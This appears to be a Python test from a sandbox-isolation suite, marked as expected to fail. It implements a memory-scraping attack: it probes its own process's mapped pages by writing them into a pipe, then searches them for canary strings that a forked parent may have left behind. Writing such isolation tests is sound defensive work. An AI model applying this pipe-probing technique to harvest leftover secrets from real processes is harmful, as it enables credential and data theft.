"""Reads all memory of its own process, freed pieces as well: what the process that was forked ever knew may be there.

Without /proc there is no list of what is mapped. But a pipe takes bytes from a mapped page and refuses others, so the
attack feels its way from addresses that it knows.

Expected: failed
"""

import ctypes
import os
import re
import sys
import time

from accomplice import LIBC, tell

STEP, LARGEST = 1 << 16, 400 << 20
PATTERN = re.compile(rb"CANARY-[a-z]+-[0-9a-f]{12}")
NEEDLE = b"CANARY-" + b"needle-" + bytes(reversed(b"fedcba987654"))


def known_addresses():
    LIBC.sbrk.restype = ctypes.c_void_p
    yield id(NEEDLE)
    yield LIBC.sbrk(0) - STEP
    for thing in (sys, [0] * 100, bytearray(1 << 22), ctypes.create_string_buffer(100), sys._getframe()):
        yield id(thing)
    for size in (100, 10_000, 1_000_000, 10_000_000):
        yield ctypes.addressof(ctypes.create_string_buffer(size))


def pages(start, direction, pipe):
    """Yield the bytes of mapped memory on one side of an address, over gaps of less than a few megabytes."""
    read_end, write_end = pipe
    address, gap = start & ~(STEP - 1), 0
    while gap < 4 << 20:
        written = LIBC.write(write_end, ctypes.c_void_p(address), ctypes.c_size_t(STEP))
        if written > 0:
            yield address, os.read(read_end, written)
        gap = 0 if written > 0 else gap + STEP
        address += direction * STEP


class Total:
    def __init__(self):
        self.value = -1

    def add(self, x):
        if x != 4:
            return
        pipe, seen, found, ends = os.pipe(), set(), set(), time.process_time() + 0.6
        for start in known_addresses():
            for direction in (1, -1):
                for address, piece in pages(start, direction, pipe):
                    if address in seen or len(seen) * STEP > LARGEST or time.process_time() > ends:
                        break
                    seen.add(address)
                    found.update(PATTERN.findall(piece) if b"CANARY-" in piece else ())
        if NEEDLE not in found:
            raise RuntimeError(f"the attack is blind: it did not find its own needle in {len(seen) * STEP >> 20} MB")
        if found - {NEEDLE}:
            tell("memory", found - {NEEDLE})
